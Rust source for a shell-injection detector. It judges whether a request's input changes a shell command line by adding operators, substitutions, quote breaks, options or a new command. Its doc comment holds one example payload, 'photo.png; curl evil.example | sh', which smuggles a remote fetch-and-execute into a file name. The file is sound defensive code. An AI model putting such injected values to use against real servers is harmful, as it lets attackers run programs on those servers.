//! `shi_detector`: an input of the request changes the structure of a command line about to be given to a shell.
//!
//! Detects: input that is more than a word: it brings an operator (`;`, `|`, `&&`, a line's end), a substitution, a
//! redirection, ends a quotation, begins a comment, adds an option, or is the command itself.
//! Why it matters: the client runs programs on the server.
//! Example: `photo.png; curl evil.example | sh` within `convert photo.png; ...`.
//! Limits: POSIX shells; plain words side by side are arguments more, and no other command.
//! References: CWE-78; POSIX.1-2017, Shell Command Language.

mod tokens;

use std::ops::Range;

use vedette_sql::{Folded, Needle};

use super::{part, Reading};
use crate::data::Data;
use tokens::{tokens, Kind, Token};

/// Bytes of the beginning or end of an input, that the application cut, that are not there by chance.
const SHORTEST_PART: usize = 6;
/// Bytes of command lines in which such parts are looked for.
const LONGEST_CUT_INTO: usize = 16 * 1024;

/// A command line, read.
pub(super) struct Line<'s> {
    text: &'s str,
    folded: Folded,
    tokens: Vec<Token>,
}

/// A command line about to be given to a shell.
pub(super) fn read<'s>(sink: &'s Data, _: &str) -> Option<Box<dyn Reading + 's>> {
    let Data::Str(text) = sink else { return None };
    Some(Box::new(Line::new(text)))
}

impl<'s> Line<'s> {
    pub(super) fn new(text: &'s str) -> Self {
        Line { text, folded: Folded::new(text), tokens: tokens(text) }
    }

    /// Whether the application quoted the input's quotes, as `shlex.quote` and others do.
    fn is_escaped(&self, input: &str) -> bool {
        let ways = [("'", "'\"'\"'"), ("'", "'\\''"), ("\"", "\\\"")];
        let mut escaped =
            ways.iter().filter(|(mark, _)| input.contains(mark)).map(|(mark, by)| input.replace(mark, by));
        escaped.any(|form| self.folded.occurrences(&form).next().is_some())
    }

    fn judge(&self, input: &Range<usize>) -> bool {
        let first = self.tokens.partition_point(|token| token.end <= input.start);
        let behind = self.tokens.partition_point(|token| token.start < input.end);
        let touched = &self.tokens[first..behind.max(first)];
        touched.iter().any(|token| self.is_structural(token, input))
            || self.is_option(touched, input)
            || self.is_command(touched, input)
    }

    /// Whether a token that is no plain text is the input's work.
    fn is_structural(&self, token: &Token, input: &Range<usize>) -> bool {
        match token.kind {
            Kind::Word => false,
            Kind::Quoted => self.ends_quotation(token, input),
            // Some of the mark itself has to come with the input.
            Kind::Operator | Kind::Substitution | Kind::Comment => {
                input.start <= token.start && input.end > token.start
            }
        }
    }

    /// Whether the input brought one of the quotation's marks, and something beside it.
    fn ends_quotation(&self, token: &Token, input: &Range<usize>) -> bool {
        let within = input.start > token.start && input.end < token.end;
        let around = input.start <= token.start && input.end >= token.end && token.closed;
        !within && !around && self.text[input.clone()].contains(['\'', '"', '`'])
    }

    /// An argument of the application's command that the input made an option, behind a word of its own.
    fn is_option(&self, touched: &[Token], input: &Range<usize>) -> bool {
        let own =
            |token: &&Token| token.kind == Kind::Word && token.start >= input.start && token.end <= input.end;
        touched.iter().filter(own).enumerate().any(|(at, token)| {
            let text = &self.text.as_bytes()[token.start..token.end];
            at > 0 && text.len() > 1 && text[0] == b'-' && (text[1] == b'-' || text[1].is_ascii_alphabetic())
        })
    }

    /// Whether the input begins a command, and says what it is to do.
    fn is_command(&self, touched: &[Token], input: &Range<usize>) -> bool {
        let [first, _, ..] = touched else { return false };
        let at = self.tokens.iter().position(|token| token.start == first.start).unwrap_or(0);
        let begins = at == 0 || self.tokens[at - 1].kind == Kind::Operator;
        begins && first.start >= input.start && first.kind == Kind::Word
    }
}

impl Reading for Line<'_> {
    fn injection(&self, input: &Needle) -> Option<String> {
        let input = input.plain();
        let is_word =
            input.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'.' | b'/'));
        if is_word || input.len() < 2 {
            return None;
        }
        let range = |(start, end)| start..end;
        let mut whole = self.folded.occurrences(input).map(range).peekable();
        let found = if whole.peek().is_some() {
            whole.find(|found| self.judge(found))
        } else if self.is_escaped(input) || self.text.len() > LONGEST_CUT_INTO {
            None
        } else {
            self.folded.parts(input, SHORTEST_PART).map(range).find(|found| self.judge(found))
        };
        found.map(|found| part(self.text, found.start, found.end))
    }
}
